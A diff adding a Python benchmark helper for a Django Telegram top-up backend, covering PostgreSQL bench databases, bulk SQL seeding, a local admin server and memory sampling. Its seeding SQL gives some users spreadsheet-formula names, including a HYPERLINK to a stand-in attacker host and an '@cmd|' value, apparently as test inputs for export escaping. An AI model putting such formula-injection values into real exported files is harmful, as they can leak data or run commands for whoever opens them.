@@ -1,0 +1,386 @@
+"""Shared pieces of the benchmarks: bench databases, seeding by SQL, the admin server.
+
+The databases live on the PostgreSQL server named by BENCH_PG (default
+postgres://postgres@127.0.0.1:5432) and are reused across runs: a database that already
+holds the wanted rows is not seeded again. Nothing is dropped unless asked (--drop).
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import secrets
+import shutil
+import statistics
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from contextlib import contextmanager
+from datetime import UTC, datetime
+from pathlib import Path
+from urllib.parse import urlsplit
+
+import psycopg2
+
+ROOT = Path(__file__).resolve().parent.parent
+RESULTS = ROOT / "bench" / "results"
+PG = os.environ.get("BENCH_PG", "postgres://postgres@127.0.0.1:5432")
+ADMIN_USER = "bench-admin"
+ADMIN_PASSWORD = "bench-" + "x7Qp" * 6  # a local bench database only
+
+# A log folder of our own: the project's logs/ stays as it was.
+LOG_DIR = Path(tempfile.gettempdir()) / "topup-bench-logs"
+SECRET_KEY = secrets.token_urlsafe(48)  # per run; DEBUG stays off as in production
+
+
+def db_url(name: str) -> str:
+    return f"{PG}/{name}"
+
+
+def _pg_args(name: str) -> list[str]:
+    parts = urlsplit(db_url(name))
+    args = ["-h", parts.hostname or "127.0.0.1", "-p", str(parts.port or 5432)]
+    return [*args, "-U", parts.username or "postgres", "-d", name]
+
+
+def connect(name: str = "postgres"):
+    conn = psycopg2.connect(db_url(name))
+    conn.autocommit = True
+    return conn
+
+
+def database_exists(name: str) -> bool:
+    with connect() as conn, conn.cursor() as cur:
+        cur.execute("SELECT 1 FROM pg_database WHERE datname = %s", [name])
+        return cur.fetchone() is not None
+
+
+def drop_database(name: str) -> None:
+    if not re.fullmatch(r"topup_bench_\w+", name):
+        raise ValueError(f"refusing to drop {name!r}: not a bench database")
+    conn = connect()
+    try:
+        with conn.cursor() as cur:
+            cur.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
+    finally:
+        conn.close()
+    log(f"dropped database {name}")
+
+
+def django_env(name: str, **extra: str) -> dict[str, str]:
+    """The environment for a manage.py subprocess on the bench database."""
+    env = {
+        **os.environ,
+        "DATABASE_URL": db_url(name),
+        "LOG_DIR": str(LOG_DIR),
+        "PYTHONUNBUFFERED": "1",
+        "DJANGO_SETTINGS_MODULE": "backend.settings",
+        "DEBUG": "false",
+        "BACKEND_SECRET_KEY": SECRET_KEY,
+    }
+    env.update(extra)
+    return env
+
+
+def manage(name: str, *args: str, check: bool = True, **env: str) -> subprocess.CompletedProcess:
+    return subprocess.run(
+        [sys.executable, "manage.py", *args],
+        cwd=ROOT,
+        env=django_env(name, **env),
+        capture_output=True,
+        text=True,
+        check=check,
+    )
+
+
+def ensure_database(name: str) -> None:
+    """Create the database when missing and apply the migrations (a no-op when current)."""
+    if not database_exists(name):
+        conn = connect()
+        try:
+            with conn.cursor() as cur:
+                cur.execute(f'CREATE DATABASE "{name}"')
+        finally:
+            conn.close()
+        log(f"created database {name}")
+    started = time.perf_counter()
+    manage(name, "migrate", "--noinput", DEBUG="true")
+    log(f"migrated {name} ({time.perf_counter() - started:.1f} s)")
+
+
+def scalar(name: str, sql: str, params=None):
+    conn = connect(name)
+    try:
+        with conn.cursor() as cur:
+            cur.execute(sql, params)
+            return cur.fetchone()[0]
+    finally:
+        conn.close()
+
+
+# One INSERT ... SELECT generate_series: a million rows in well under a minute.
+# Mostly Latin usernames `user<i>`, Cyrillic first and last names, one user in ~40 with a
+# name that starts like a spreadsheet formula, 10 % without a username, 10 % with money.
+USERS_SQL = """
+INSERT INTO users_telegramuser
+    (telegram_id, username, first_name, last_name, language_code, balance, is_blocked,
+     created_at, last_seen_at, bot_blocked_at)
+SELECT
+    100000000 + i * 7,
+    CASE WHEN i % 10 = 0 THEN '' ELSE 'user' || i END,
+    CASE
+        WHEN i % 97 = 0 THEN '=HYPERLINK("http://evil.example/?' || i || '")'
+        WHEN i % 89 = 0 THEN '+7 (900) ' || i
+        WHEN i % 83 = 0 THEN '-' || i
+        WHEN i % 79 = 0 THEN '@cmd|' || i
+        ELSE (ARRAY['Иван', 'Мария', 'Алексей', 'Ольга', 'Дмитрий', 'Анна', 'John',
+                    'Екатерина', 'Сергей', 'Наталья «Ната»'])[1 + i % 10]
+    END,
+    CASE WHEN i % 3 = 0 THEN ''
+         ELSE (ARRAY['Иванов', 'Петрова', 'Смирнов', 'Кузнецова', 'Попов', 'Васильева',
+                     'Smith, Jr.', 'Соколов "Сокол"'])[1 + i % 8]
+    END,
+    (ARRAY['ru', 'en', 'uk', ''])[1 + i % 4],
+    CASE WHEN i % 10 = 3 THEN (1 + i % 5000) + (i % 100) / 100.0 ELSE 0 END,
+    i % 500 = 0,
+    now() - interval '730 days' + i * (interval '730 days' / {n}),
+    now() - (i % 1000) * interval '1 hour',
+    NULL
+FROM generate_series(1, {n}) AS i
+"""
+
+
+def ensure_users(name: str, n: int) -> float:
+    """`n` seeded users in `name`; returns the seeding time (0 when they were there)."""
+    ensure_database(name)
+    have = scalar(name, "SELECT count(*) FROM users_telegramuser")
+    if have == n:
+        log(f"{name}: {n:,} users already there, reused")
+        return 0.0
+    if have:
+        raise SystemExit(
+            f"{name} has {have:,} users, not {n:,}: run with --fresh to drop and reseed it"
+        )
+    log(f"{name}: seeding {n:,} users by SQL...")
+    started = time.perf_counter()
+    conn = connect(name)
+    try:
+        with conn.cursor() as cur:
+            cur.execute(USERS_SQL.format(n=int(n)))
+            cur.execute("VACUUM ANALYZE users_telegramuser")
+    finally:
+        conn.close()
+    took = time.perf_counter() - started
+    log(f"{name}: seeded in {took:.1f} s")
+    return took
+
+
+def ensure_superuser(name: str) -> None:
+    result = manage(
+        name,
+        "createsuperuser",
+        "--noinput",
+        check=False,
+        DEBUG="true",
+        DJANGO_SUPERUSER_USERNAME=ADMIN_USER,
+        DJANGO_SUPERUSER_PASSWORD=ADMIN_PASSWORD,
+        DJANGO_SUPERUSER_EMAIL="bench@example.com",
+    )
+    if result.returncode and "already" not in result.stderr:
+        raise SystemExit(f"createsuperuser failed:\n{result.stderr}")
+
+
+def table_size(name: str, table: str) -> str:
+    return scalar(name, "SELECT pg_size_pretty(pg_total_relation_size(%s))", [table])
+
+
+def pg_version() -> str:
+    return scalar("postgres", "SHOW server_version")
+
+
+def psql(name: str, command: str) -> float:
+    """Run one psql command; returns its wall time."""
+    started = time.perf_counter()
+    subprocess.run(
+        ["psql", "-X", "-q", *_pg_args(name), "-c", command],
+        check=True,
+        stdout=subprocess.DEVNULL,
+    )
+    return time.perf_counter() - started
+
+
+# --- memory of another process ---------------------------------------------------------
+
+
+def rss_kb(pid: int) -> int:
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            if line.startswith("VmRSS:"):
+                return int(line.split()[1])
+    return 0
+
+
+class RssSampler:
+    """Samples a process's VmRSS every `interval` seconds from a thread; `growth_mb` is
+    the peak minus the value at the start."""
+
+    def __init__(self, pid: int, interval: float = 0.05) -> None:
+        self.pid, self.interval = pid, interval
+        self.start_kb = self.peak_kb = rss_kb(pid)
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._run, daemon=True)
+
+    def _run(self) -> None:
+        while not self._stop.is_set():
+            try:
+                self.peak_kb = max(self.peak_kb, rss_kb(self.pid))
+            except (FileNotFoundError, ProcessLookupError):
+                return
+            self._stop.wait(self.interval)
+
+    def __enter__(self) -> RssSampler:
+        self._thread.start()
+        return self
+
+    def __exit__(self, *exc) -> None:
+        self._stop.set()
+        self._thread.join()
+
+    @property
+    def growth_mb(self) -> float:
+        return (self.peak_kb - self.start_kb) / 1024
+
+
+# --- the admin over HTTP -----------------------------------------------------------------
+
+
+def free_port() -> int:
+    import socket
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+@contextmanager
+def admin_server(name: str):
+    """`manage.py runserver --noreload` on the bench database with production-like
+    settings (DEBUG off); yields (base_url, pid)."""
+    port = free_port()
+    env = {
+        "SECURE_COOKIES": "false",
+        "ALLOWED_HOSTS": "127.0.0.1",
+    }
+    server_log = open(LOG_DIR / "runserver.log", "ab")  # noqa: SIM115
+    process = subprocess.Popen(
+        [sys.executable, "manage.py", "runserver", "--noreload", "--insecure", f"127.0.0.1:{port}"],
+        cwd=ROOT,
+        env=django_env(name, **env),
+        stdout=server_log,
+        stderr=subprocess.STDOUT,
+    )
+    base = f"http://127.0.0.1:{port}"
+    try:
+        import httpx
+
+        deadline = time.monotonic() + 60
+        while True:
+            if process.poll() is not None:
+                raise SystemExit(f"runserver exited; see {LOG_DIR / 'runserver.log'}")
+            try:
+                httpx.get(f"{base}/admin/login/", timeout=2)
+                break
+            except httpx.HTTPError:
+                if time.monotonic() > deadline:
+                    raise
+                time.sleep(0.2)
+        yield base, process.pid
+    finally:
+        process.terminate()
+        try:
+            process.wait(10)
+        except subprocess.TimeoutExpired:
+            process.kill()
+            process.wait()
+        server_log.close()
+
+
+def admin_login(base: str):
+    """An httpx.Client logged in to the admin as the bench superuser."""
+    import httpx
+
+    client = httpx.Client(base_url=base, timeout=None, follow_redirects=False)
+    page = client.get("/admin/login/")
+    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.text)
+    if not token:
+        raise SystemExit("no CSRF token on the login page")
+    response = client.post(
+        "/admin/login/?next=/admin/",
+        data={
+            "username": ADMIN_USER,
+            "password": ADMIN_PASSWORD,
+            "csrfmiddlewaretoken": token[1],
+            "next": "/admin/",
+        },
+        headers={"Referer": f"{base}/admin/login/"},
+    )
+    if response.status_code != 302:
+        raise SystemExit(f"admin login failed: HTTP {response.status_code}")
+    return client
+
+
+# --- output ------------------------------------------------------------------------------
+
+
+def log(text: str) -> None:
+    print(f"[{datetime.now(UTC):%H:%M:%S}] {text}", file=sys.stderr, flush=True)
+
+
+def median(values: list[float]) -> float:
+    return statistics.median(values)
+
+
+def table(headers: list[str], rows: list[list]) -> str:
+    cells = [[str(c) for c in row] for row in [headers, *rows]]
+    widths = [max(len(row[i]) for row in cells) for i in range(len(headers))]
+    lines = ["  ".join(c.ljust(w) for c, w in zip(row, widths, strict=True)) for row in cells]
+    lines.insert(1, "  ".join("-" * w for w in widths))
+    return "\n".join(lines)
+
+
+def machine() -> dict:
+    return {
+        "nproc": os.cpu_count(),
+        "postgresql": pg_version(),
+        "python": sys.version.split()[0],
+        "mem_total_mb": _meminfo_mb(),
+        "loadavg_1_5_15": os.getloadavg(),
+    }
+
+
+def _meminfo_mb() -> int:
+    with open("/proc/meminfo") as f:
+        return int(f.readline().split()[1]) // 1024
+
+
+def write_results(bench: str, data: dict) -> Path:
+    RESULTS.mkdir(parents=True, exist_ok=True)
+    path = RESULTS / f"{bench}-{datetime.now(UTC):%Y%m%dT%H%M%SZ}.json"
+    path.write_text(json.dumps(data, indent=2, ensure_ascii=False, default=str) + "\n")
+    log(f"results written to {path.relative_to(ROOT)}")
+    return path
+
+
+def users_db(quick: bool) -> tuple[str, int]:
+    """The users database shared by export and admin_pages."""
+    return ("topup_bench_users_100k", 100_000) if quick else ("topup_bench_users_1m", 1_000_000)
+
+
+def have_psql() -> bool:
+    return shutil.which("psql") is not None
+
+
+LOG_DIR.mkdir(parents=True, exist_ok=True)
